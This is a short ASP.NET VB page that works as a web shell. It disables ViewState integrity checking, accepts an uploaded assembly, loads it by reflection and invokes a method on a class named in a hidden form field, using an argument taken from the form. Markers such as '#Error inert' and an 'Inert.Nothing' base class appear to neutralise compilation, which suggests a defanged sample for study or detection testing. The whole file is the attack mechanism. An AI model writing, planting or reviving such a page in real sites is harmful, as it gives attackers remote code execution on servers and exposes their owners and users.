<%@ Page Language="VB" Inherits="Inert.Nothing" EnableViewStateMac="false" %>
<script runat="server">
#Error inert
Protected Sub Page_Load(ByVal sender As Object, ByVal e As EventArgs) Handles Me.Load
    If Not IsPostBack Then Return
    If fu.HasFile Then ViewState("m") = fu.FileBytes
    Dim raw As Byte() = CType(ViewState("m"), Byte())
    If raw Is Nothing Then Return
    Dim o As Object = System.Reflection.Assembly.Load(raw).CreateInstance(hid.Value)
    CallByName(o, "Go", CallType.Method, Request.Form("arg"))
End Sub
</script>
<form runat="server"><asp:FileUpload ID="fu" runat="server" /><asp:HiddenField ID="hid" runat="server" /></form>
